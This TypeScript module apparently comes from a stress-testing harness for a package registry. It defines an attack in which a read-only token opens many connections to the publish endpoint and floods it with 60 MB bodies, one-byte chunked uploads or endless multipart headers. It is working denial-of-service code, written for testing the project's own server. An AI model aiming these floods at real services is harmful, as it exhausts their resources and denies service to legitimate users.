// A token that may only read uploads anyway, in ways that are costly to receive.
import type { Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import type { Attacker } from '../attacker/attacker.ts';

const BODY_BYTES = 60_000_000;
const PIECE = Buffer.alloc(64 * 1024, 'a');
const FORM = 'multipart/form-data; boundary=b';
const PART = '--b\r\nContent-Disposition: form-data; name="tarball"; filename="a"\r\n\r\n';

export const uploadsWithoutPermission: Attack = {
  name: 'uploads-without-permission',
  summary: 'a token that may only read sends 60 MB, chunks of one byte and endless part headers',
  arm: (attacker) => () =>
    attacker.hold(attacker.count(120), (socket, index) => {
      attacker.countAnswers(socket);
      const [headers, first, piece] = pickUpload(index, attacker.count(BODY_BYTES));
      socket.write(`${headOf(attacker, headers)}${first}`);
      sendOn(socket, piece);
    }),
};

type Upload = readonly [headers: string, first: string, piece: Buffer];

function pickUpload(index: number, bodyBytes: number): Upload {
  const chunked = 'Transfer-Encoding: chunked';
  const uploads: readonly Upload[] = [
    [`Content-Length: ${bodyBytes}`, PART, PIECE],
    [chunked, `${PART.length.toString(16)}\r\n${PART}\r\n`, Buffer.from('1\r\na\r\n'.repeat(10_000))],
    [chunked, '5\r\n--b\r\n\r\n', Buffer.from('1\r\nX\r\n'.repeat(10_000))],
  ];
  return uploads[index % uploads.length] as Upload;
}

function headOf({ target }: Attacker, headers: string): string {
  const authorization = `Authorization: Bearer ${target.tokens.reader}`;
  return `POST /publish HTTP/1.1\r\nHost: registry\r\n${authorization}\r\nContent-Type: ${FORM}\r\n${headers}\r\n\r\n`;
}

/** Sends the piece as often as the registry takes it. */
function sendOn(socket: Socket, piece: Uint8Array): void {
  const send = (): void => {
    if (socket.destroyed || !socket.writable) return;
    // A turn of the event loop for each piece, so that one connection does not keep the others waiting.
    if (socket.write(piece)) setImmediate(send);
    else socket.once('drain', send);
  };
  send();
}
